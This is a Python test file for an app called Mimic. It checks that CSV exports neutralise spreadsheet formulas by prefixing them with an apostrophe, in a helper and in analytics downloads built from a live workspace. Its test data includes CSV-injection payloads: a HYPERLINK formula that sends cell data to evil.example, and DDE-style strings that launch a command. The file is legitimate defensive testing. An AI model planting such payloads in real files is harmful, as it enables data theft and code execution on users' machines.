"""CSV injection (OWASP): every CSV Mimic writes neutralises cells a spreadsheet would
evaluate, through one helper; the analytics downloads built from a real workspace whose
persona, objective and finding carry formulas prove it end to end."""

from __future__ import annotations

import csv
import io

import pytest

from app.services import analytics_charts as charts
from app.services.csv_export import safe_cell, to_csv
from tests.support.sessions import Api

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (FORMULA, "'" + FORMULA),
        ("+1+1", "'+1+1"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Dana (direct)", "Dana (direct)"),
        ("a=b", "a=b"),  # only a formula's first character counts
        ("", ""),
    ],
)
def test_a_cell_that_would_be_a_formula_is_written_as_text(value: str, written: str) -> None:
    assert safe_cell(value) == written
    rows = list(csv.reader(io.StringIO(to_csv(["name"], [[value]]), newline=""), strict=True))
    assert rows == [["name"], [written]]


def test_numbers_stay_numbers() -> None:
    assert safe_cell(-3) == -3 and safe_cell(2.5) == 2.5 and safe_cell(None) is None
    assert to_csv(["n"], [[-3]]) == "n\r\n-3\r\n"


def test_the_analytics_downloads_neutralise_names_from_the_workspace(live_api, make_account) -> None:
    api = Api(live_api.url, make_account().headers)
    persona = api.post("/api/personas", {"name": FORMULA, "description": "x", "traits": {}})["id"]
    objective = api.post("/api/objectives", {
        "name": "@SUM(A1:A9)", "definition": {"goal": "Find the order status", "successCriteria": ["The status"]},
        "config": {"maxTurns": 2}})["id"]  # fmt: skip
    agent = api.agent("hosted", {"systemPrompt": "You are a shop assistant.", "model": "mimic/offline"})
    api.wait(api.start(agent, persona, objective))
    data = api.get("/api/analytics/breakdown")
    from app.models.analytics import OutcomeBreakdown

    matrix = [OutcomeBreakdown.model_validate(m) for m in data["matrix"]]
    for chart in (charts.success_heatmap(matrix), charts.success_by("by-persona", "By persona", "Persona", matrix)):
        cells = [cell for row in csv.reader(io.StringIO(chart.csv())) for cell in row]
        assert "'" + FORMULA in cells, chart.key
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), chart.key
